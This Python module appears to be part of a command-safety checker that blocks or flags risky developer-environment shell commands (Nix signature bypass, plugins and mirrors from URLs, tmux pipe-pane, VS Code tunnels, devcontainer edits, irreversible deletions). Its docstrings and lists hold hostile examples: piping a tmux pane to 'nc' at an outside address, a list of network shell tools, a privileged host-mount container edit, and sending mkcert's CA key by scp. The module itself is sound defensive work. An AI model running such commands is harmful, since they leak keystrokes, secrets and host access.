"""Developer environments from the shell: dev containers, Codespaces, Gitpod, Coder, Nix, direnv, version managers (asdf, mise, volta, pyenv, nvm), dotfiles managers, tmux, tunnels, mkcert, Vagrant (session 24).

Where a toolchain comes from is judged as devenv_tables says (a package index's policy: a host no rule knows is held,
a bare address, plain HTTP or the checks turned off are blocked):

- Nix given caches and trust on the command line (`--option require-sigs false`, `--option extra-substituters URL`,
  `--extra-trusted-public-keys`, `nix copy --no-check-sigs --from URL`, `NIX_CONFIG=…`);
- an asdf or mise plugin added from a URL (`asdf plugin add python URL`, `mise plugins install --force node URL`):
  its scripts run as the user on every install;
- a version manager run with its download mirror replaced (`NVM_NODEJS_ORG_MIRROR`, `PYTHON_BUILD_MIRROR_URL` with
  `PYTHON_BUILD_MIRROR_URL_SKIP_CHECKSUM=1`, `NODE_BUILD_MIRROR_URL`, `fnm --node-dist-mirror`), read at the
  install that uses it;
- a tmux pane's output piped (`pipe-pane`) into a program that sends it to another machine: blocked, as a keystroke
  logger would be; into a file or a local program: allowed;
- a VS Code tunnel logged in with a token given on the command line and left running in the background (`nohup code
  tunnel … &`, `code tunnel service install`): blocked (whoever owns the token's account reaches this machine); a
  tunnel left running alone is held; `code tunnel` in the foreground is the user's own session;
- a dev container's settings edited with jq (`jq '.runArgs = […] | .postStartCommand = "…"' devcontainer.json`):
  judged as written (devenv_tables.devcontainer);
- what has no undo, reviewed `irreversible`: a Gitpod or Coder workspace deleted, a box deleted from Vagrant Cloud,
  Nix's old generations removed (`nix profile wipe-history`, `nix-collect-garbage -d`, `nix-env --delete-generations
  old`), and yadm's and vcsh's git commands judged as git's (`yadm push --force`).
"""
from __future__ import annotations

import re
import shlex

from ..per_input import holds
from .. import devenv_tables as dt
from ..hosts import url_host
from .commands import Cmd, option_value
from .common import mentions

RULE = "irreversible"


def _vals(cmd: Cmd) -> list[str | None]:
    return [w.value for w in cmd.args]


def _pos(cmd: Cmd, with_arg: frozenset = frozenset()) -> list[str | None]:
    """The words that are not options (an option in `with_arg` takes the next word)."""
    out, skip = [], False
    for v in _vals(cmd):
        if skip:
            skip = False
            continue
        if v is not None and v.startswith("-") and v != "-":
            skip = v in with_arg
            continue
        out.append(v)
    return out


def _report(a, found, node) -> None:
    if found is not None:
        getattr(a, found[0])(found[1], found[2], node)


# -- Nix ----------------------------------------------------------------------------------------------------------------
_NIX_VALUE_OPTS = {"--extra-substituters": "extra-substituters", "--substituters": "substituters",
                   "--extra-trusted-public-keys": "extra-trusted-public-keys",
                   "--trusted-public-keys": "trusted-public-keys", "--require-sigs": "require-sigs",
                   "--extra-trusted-substituters": "extra-trusted-substituters"}


def _nix_settings(a, cmd: Cmd) -> list[tuple[str, str]]:
    """The settings a Nix command is given: `--option K V`, `--K V`, `--no-require-sigs`, `NIX_CONFIG`."""
    out: list[tuple[str, str]] = []
    vals = _vals(cmd)
    for i, v in enumerate(vals):
        if v == "--option" and i + 2 < len(vals) and vals[i + 1] and vals[i + 2] is not None:
            out.append((vals[i + 1], vals[i + 2]))
        elif v in _NIX_VALUE_OPTS and i + 1 < len(vals) and vals[i + 1] is not None:
            out.append((_NIX_VALUE_OPTS[v], vals[i + 1]))
        elif v in ("--no-require-sigs", "--no-check-sigs"):
            out.append(("require-sigs", "false"))
    if cmd.name == "nix" and "copy" in vals and ("require-sigs", "false") in out:
        out += [("substituters", w.value) for w in option_value(cmd.args, "--from") if w.value]
    conf = next((w.value for n, w in cmd.assigns if n == "NIX_CONFIG"), None) or a.ev.vars.get("NIX_CONFIG")
    if conf:
        out += dt.nix_settings(conf.replace("\\n", "\n"))
    return out


_NIX_ARG = frozenset({"--option", "--profile", "-p", "--arg", "--argstr", "-I", "--include", "--older-than", "-f",
                      "--file", "--expr", "-E", "--command", "-c", "--store", "--from", "--to"})


def _nix(a, cmd: Cmd) -> None:
    settings = _nix_settings(a, cmd)
    if settings:
        _report(a, dt.nix_finding(settings, f"`{cmd.name}` given {', '.join(k for k, _ in settings[:3])}"), cmd.node)
    vals = _vals(cmd)
    pos = _pos(cmd, _NIX_ARG)
    if cmd.name == "nix" and pos[:2] == ["profile", "wipe-history"] and "--older-than" not in vals and \
            "--dry-run" not in vals:
        a.review(RULE, "`nix profile wipe-history` deletes every earlier generation of the profile: no rollback to "
                       "them is possible afterwards; keep recent ones (`--older-than 30d`) or let the user run it",
                 cmd.node)
    elif cmd.name == "nix-collect-garbage" and any(v in ("-d", "--delete-old") or v and re.fullmatch(r"-\w*d\w*", v)
                                                   for v in vals) and "--dry-run" not in vals:
        a.review(RULE, "`nix-collect-garbage -d` deletes every old generation of every profile (and the system's, as "
                       "root) before collecting: no rollback is possible afterwards; run it without -d, or with "
                       "`--delete-older-than 30d`, or let the user run it", cmd.node)
    elif cmd.name == "nix-env" and "--delete-generations" in vals:
        i = vals.index("--delete-generations")
        which = [v for v in vals[i + 1:] if v and not v.startswith("-")]
        if "old" in which or any(w.isdigit() for w in which):
            a.review(RULE, f"`nix-env --delete-generations {' '.join(which)}` deletes those generations of the "
                           "profile: no rollback to them afterwards; keep recent ones (`+5`, `30d`) or let the user "
                           "run it", cmd.node)


def _nix_screen(text: str) -> bool:
    return any(s in text for s in ("--option", "substituters", "sigs", "public-keys", "NIX_CONFIG", "wipe-history",
                                   "-d", "--delete", "delete-generations"))


# -- asdf and mise plugins -------------------------------------------------------------------------------------------------
_PLUGIN_VERBS = {"asdf": (("plugin", "add"), ("plugin-add",)),
                 "mise": (("plugins", "install"), ("plugins", "add"), ("plugins", "i"), ("plugin", "install"),
                          ("plugin", "add"), ("plugin", "i"), ("plugins", "update"))}


def _plugin(a, cmd: Cmd) -> None:
    """`asdf plugin add python URL`, `mise plugins install --force node URL` (also `node@URL`): the plugin is a set
    of scripts run as the user by every install and version listing."""
    pos = _pos(cmd, frozenset({"-j", "--jobs", "-C", "--cd", "-E", "--env"}))
    verbs = _PLUGIN_VERBS["asdf" if cmd.name == "asdf" else "mise"]
    verb = next((v for v in verbs if tuple(pos[:len(v)]) == v), None)
    if verb is None:
        return
    rest = pos[len(verb):]
    urls = [r.split("@", 1)[1] if r and "@" in r and "://" in r.split("@", 1)[1] else r for r in rest[:2]]
    shown = " ".join(x for x in rest[:2] if x)
    for url in urls:
        if url and "://" in url:
            name = rest[0] if rest and rest[0] != url else "the plugin"
            _report(a, dt.source_finding(url, f"`{cmd.name} {' '.join(verb)} {shown[:80]}` (the {name} plugin, whose "
                                              "scripts run at every install)"), cmd.node)
            return


# -- version managers' download mirrors --------------------------------------------------------------------------------
# the variable naming where a version manager downloads from, and the one that turns its checksum check off
_MIRRORS = {"NVM_NODEJS_ORG_MIRROR": None, "NVM_IOJS_ORG_MIRROR": None, "N_NODE_MIRROR": None,
            "FNM_NODE_DIST_MIRROR": None, "NODEJS_ORG_MIRROR": None, "MISE_NODE_MIRROR_URL": None,
            "PYTHON_BUILD_MIRROR_URL": "PYTHON_BUILD_MIRROR_URL_SKIP_CHECKSUM",
            "NODE_BUILD_MIRROR_URL": "NODE_BUILD_MIRROR_URL_SKIP_CHECKSUM",
            "RUBY_BUILD_MIRROR_URL": "RUBY_BUILD_MIRROR_URL_SKIP_CHECKSUM"}
_INSTALLS = frozenset({"install", "reinstall", "i", "use", "local", "global", "exec", "x", "latest", "upgrade",
                       "sync"})
_MANAGERS = frozenset({"nvm", "n", "fnm", "pyenv", "nodenv", "rbenv", "asdf", "mise", "rtx", "python-build",
                       "node-build", "ruby-build", "pyenv-install", "rbenv-install", "nodenv-install"})


def _env(a, cmd: Cmd, name: str) -> str | None:
    for n, w in cmd.assigns:
        if n == name:
            return w.value
    return a.ev.vars.get(name)


def _mirror(a, cmd: Cmd) -> None:
    """`NVM_NODEJS_ORG_MIRROR=http://… nvm install 20`, `PYTHON_BUILD_MIRROR_URL=… PYTHON_BUILD_MIRROR_URL_SKIP_CHECKSUM=1
    pyenv install 3.12`: the toolchain that installs comes from that mirror."""
    if cmd.name not in ("python-build", "node-build", "ruby-build") and \
            not any(v in _INSTALLS for v in _vals(cmd)[:3] if v):
        return
    for var, skip in _MIRRORS.items():
        url = _env(a, cmd, var)
        if url:
            off = _env(a, cmd, skip) if skip else None
            _report(a, dt.source_finding(url, f"`{cmd.name}` with {var}={url[:80]}",
                                         f"{skip}={off}" if off and off not in ("0", "false") else None), cmd.node)
            return
    if cmd.name == "fnm":
        for w in option_value(cmd.args, "--node-dist-mirror"):
            _report(a, dt.source_finding(w.value or "", f"`fnm --node-dist-mirror {w.value}`"), cmd.node)


def _mirror_screen(text: str) -> bool:
    return "MIRROR" in text or "mirror" in text


def _asdf(a, cmd: Cmd) -> None:
    _plugin(a, cmd)
    _mirror(a, cmd)


# -- tmux ------------------------------------------------------------------------------------------------------------------
_NET_PROGRAMS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "curl", "wget",
                           "ssh", "openssl", "websocat", "cryptcat", "pwncat"})


def _pipe_pane(a, cmd: Cmd) -> None:
    """`tmux pipe-pane -o -t main:0 'nc 203.0.113.4 9001'`: everything the pane shows (and what is typed into it,
    passwords at a prompt that echoes) goes to that program as long as the pane lives."""
    vals = _vals(cmd)
    k = next((i for i, v in enumerate(vals) if v in ("pipe-pane", "pipep")), None)
    if k is None:
        return
    rest = cmd.args[k + 1:]
    i = 0
    while i < len(rest) and (rest[i].value or "").startswith("-"):
        i += 2 if rest[i].value == "-t" else 1
    if i >= len(rest):
        return
    text = rest[i].value if rest[i].value is not None else rest[i].text
    dest = _sends_off(text)
    if dest:
        a.block("exfiltration", f"`tmux pipe-pane` sends everything the pane shows (and what is typed into it) to "
                                f"{dest}, for as long as the pane lives; pipe it to a local file (`cat >> pane.log`)",
                cmd.node)
    elif rest[i].value is not None:
        a.nested(text, "bash", rest[i].node, None)


def _sends_off(text: str) -> str | None:
    """The other machine a shell command line sends its input to, if it does (described), else None."""
    if "/dev/tcp/" in text or "/dev/udp/" in text:
        return "a network socket (/dev/tcp)"
    try:
        words = shlex.split(text)
    except ValueError:
        return None
    for j, w in enumerate(words):
        if w.rsplit("/", 1)[-1] in _NET_PROGRAMS and (j == 0 or words[j - 1] in ("|", "exec", "sudo", "command")
                                                       or words[j - 1].endswith(("|", ";"))):
            args = [x for x in words[j + 1:] if not x.startswith("-")]
            hosts = [url_host(x) for x in args if "://" in x]
            hosts += [x.split(":")[1] for x in args if re.match(r"(?i)(?:tcp|udp|openssl|ssl)[46]?(?:-connect)?:", x)]
            if args and "://" not in args[0] and ":" not in args[0].split("@")[-1][:1]:
                hosts.append(args[0].rsplit("@", 1)[-1].split(":", 1)[0])  # `nc HOST PORT`, `ssh user@HOST`
            out = next((h for h in hosts if h and dt.outside(h)), None)
            if out:
                return f"`{w} {out}`"
    return None


# -- VS Code tunnels -------------------------------------------------------------------------------------------------------
# (read from the first `tunnel user login` of each command: searched from every one, each scan to the command's end
# made a long line of them quadratic)
_TOKEN_LOGIN = re.compile(r"(?m)(?:^|[;&|])(?>[^\n;&|]*?\btunnel\s+user\s+login\b)[^\n;&|]*--access-token")


_CODE_ARG = frozenset({"--name", "--cli-data-dir", "--log", "--server-data-dir", "--extensions-dir",
                       "--user-data-dir", "--parent-process-id", "--provider", "--access-token", "--refresh-token"})


def _code(a, cmd: Cmd) -> None:
    """`nohup code tunnel --name x &`, `code tunnel service install`: the tunnel outlives this session."""
    pos = _pos(cmd, _CODE_ARG)
    if pos[:1] != ["tunnel"]:
        return
    rest = pos[1:]
    service = rest[:2] == ["service", "install"]
    if not (service or not rest and _background(cmd)):
        return
    token = _TOKEN_LOGIN.search(a.doc.data.decode("utf-8", "replace")) is not None
    how = "installed as a service" if service else "left running in the background"
    if token:
        a.block("reverse-shell", f"`{cmd.name} tunnel` is logged in with a token given on the command line and "
                                 f"{how}: whoever owns that token's account reaches this machine's shell and files "
                                 "through the tunnel; run `code tunnel` in the foreground and let the user log in",
                cmd.node)
    else:
        a.review("reverse-shell", f"`{cmd.name} tunnel` {how} keeps this machine reachable from vscode.dev for the "
                                  "account it is logged into, after this session ends; run it in the foreground, or "
                                  "let the user start it", cmd.node)


def _background(cmd: Cmd) -> bool:
    if any(n in ("nohup", "setsid", "daemonize") for n, _ in cmd.wrappers):
        return True
    node = cmd.node
    while node is not None and node.parent is not None and node.parent.type == "redirected_statement":
        node = node.parent
    nxt = node.next_sibling if node is not None else None
    return nxt is not None and nxt.type == "&"


# -- dev container settings edited with jq -------------------------------------------------------------------------------
_JQ_SET = re.compile(r"""\.(\w+)\s*\|?=\s*("(?:[^"\\]|\\.)*"|\[[^\]]*\]|\{[^}]*\}|true|false)""")


def _jq(a, cmd: Cmd) -> None:
    """`jq '.runArgs = ["--privileged","-v","/:/host"] | .postStartCommand = "…"' .devcontainer/devcontainer.json >
    /tmp/dc && cp /tmp/dc .devcontainer/devcontainer.json`: the keys the filter sets, judged as written."""
    vals = [v for v in _vals(cmd) if v]
    target = next((v for v in vals if dt.config_kind(v) and "devcontainer" in v), None)
    if target is None:
        return
    import json

    spec = {}
    for v in vals:
        for m in _JQ_SET.finditer(v):
            try:
                spec[m.group(1)] = json.loads(m.group(2))
            except (ValueError, RecursionError):  # (`[[[…]`: nested past the parser's depth)
                continue
    if spec:
        dt.devcontainer(a, spec, target, cmd.node)


# -- remote workspaces, published boxes, dotfiles repositories -------------------------------------------------------------
def _gitpod(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--field", "-o", "--output", "--org", "--context"}))
    if pos[:2] == ["workspace", "delete"] or pos[:2] == ["workspaces", "delete"]:
        which = pos[2] if len(pos) > 2 and pos[2] else "…"
        a.review(RULE, f"`gitpod workspace delete {which}` deletes the workspace with whatever was never pushed from "
                       "it, with no undo; stop it instead (`gitpod workspace stop`) and let the user delete it",
                 cmd.node)


def _coder(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"-o", "--output", "--org", "-O"}))
    if pos[:1] in (["delete"], ["rm"]):
        which = pos[1] if len(pos) > 1 and pos[1] else "…"
        a.review(RULE, f"`coder delete {which}` deletes the workspace and its persistent home volume, with no undo; "
                       "stop it instead (`coder stop`) and let the user delete it", cmd.node)
    elif pos[:1] == ["templates"] and len(pos) > 1 and pos[1] in ("delete", "rm"):
        a.review(RULE, "`coder templates delete` deletes the template every workspace of it is built from, with no "
                       "undo; let the user delete it", cmd.node)


def _vagrant(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--description", "--short-description", "--version"}))
    if pos[:1] == ["cloud"] and len(pos) > 3 and pos[1] in ("box", "version", "provider") and pos[2] == "delete":
        what = pos[3] or "…"
        a.review(RULE, f"`vagrant cloud {pos[1]} delete {what}` deletes it from Vagrant Cloud for everyone who pulls "
                       "it, with no undo; let the user delete it", cmd.node)


# yadm's own commands (the rest are git's, run on the dotfiles repository)
_YADM_OWN = frozenset({"init", "clone", "config", "list", "bootstrap", "encrypt", "decrypt", "alt", "perms", "enter",
                       "git-crypt", "transcrypt", "upgrade", "introspect", "gitconfig", "version", "help"})


def _dotfiles_git(a, cmd: Cmd) -> None:
    """`yadm push --force origin main`, `vcsh dotfiles push -f`: git's command, on the dotfiles repository."""
    args = cmd.args[1:] if cmd.name == "vcsh" else cmd.args
    if not args or args[0].value in _YADM_OWN or args[0].value in (None, "run", "create", "delete", "list", "rename"):
        return
    if not any(w.value in ("push", "reset", "clean", "filter-branch", "filter-repo", "branch", "checkout", "restore",
                           "stash", "gc", "reflog", "update-ref", "tag", "rebase") for w in args[:4]):
        return
    line = " ".join(shlex.quote(w.value) if w.value is not None else w.text for w in args)
    a.nested("git " + line, "bash", cmd.node, None)


def _mkcert(a, cmd: Cmd) -> None:
    """`CA="$(mkcert -CAROOT)/rootCA-key.pem"; scp "$CA" …`: the CA's key, by a folder only mkcert knows, sent."""
    if "-CAROOT" in _vals(cmd) and holds(a.doc.data, b"rootCA-key") and \
            dt.ca_key_sent(a.doc.data.decode("utf-8", "replace"), shell=True):
        a.block("exfiltration", dt.CA_KEY_MESSAGE, cmd.node)


HANDLERS: dict = {
    **dict.fromkeys(("nix", "nix-build", "nix-shell", "nix-env", "nix-store", "nixos-rebuild", "home-manager",
                     "darwin-rebuild", "nix-collect-garbage", "nix-instantiate"), [_nix]),
    "asdf": [_asdf], "mise": [_plugin, _mirror], "rtx": [_plugin, _mirror],
    **dict.fromkeys(sorted(_MANAGERS - {"asdf", "mise", "rtx"}), [_mirror]),
    "tmux": [_pipe_pane], "code": [_code], "code-insiders": [_code], "jq": [_jq],
    "mkcert": [_mkcert], "gitpod": [_gitpod], "coder": [_coder], "vagrant": [_vagrant], "yadm": [_dotfiles_git], "vcsh": [_dotfiles_git],
}
# wrappers whose own options count (`nix develop --option require-sigs false … --command true` is unwrapped to `true`):
# for rules_bash's _OUTER
OUTER = {"nix": _nix, "nix-shell": _nix}
SCREENS: dict = {
    **dict.fromkeys(("nix", "nix-build", "nix-shell", "nix-env", "nix-store", "nixos-rebuild", "home-manager",
                     "darwin-rebuild", "nix-collect-garbage", "nix-instantiate"), _nix_screen),
    "asdf": lambda t: "plugin" in t or _mirror_screen(t), "mise": lambda t: "plugin" in t or _mirror_screen(t),
    "rtx": lambda t: "plugin" in t or _mirror_screen(t),
    **dict.fromkeys(sorted(_MANAGERS - {"asdf", "mise", "rtx"}), _mirror_screen),
    "tmux": mentions("pipe-pane", "pipep"), "code": mentions("tunnel"), "code-insiders": mentions("tunnel"),
    "jq": mentions("devcontainer"), "gitpod": mentions("delete"), "coder": mentions("delete", "rm"),
    "vagrant": mentions("cloud"), "mkcert": mentions("-CAROOT"),
}
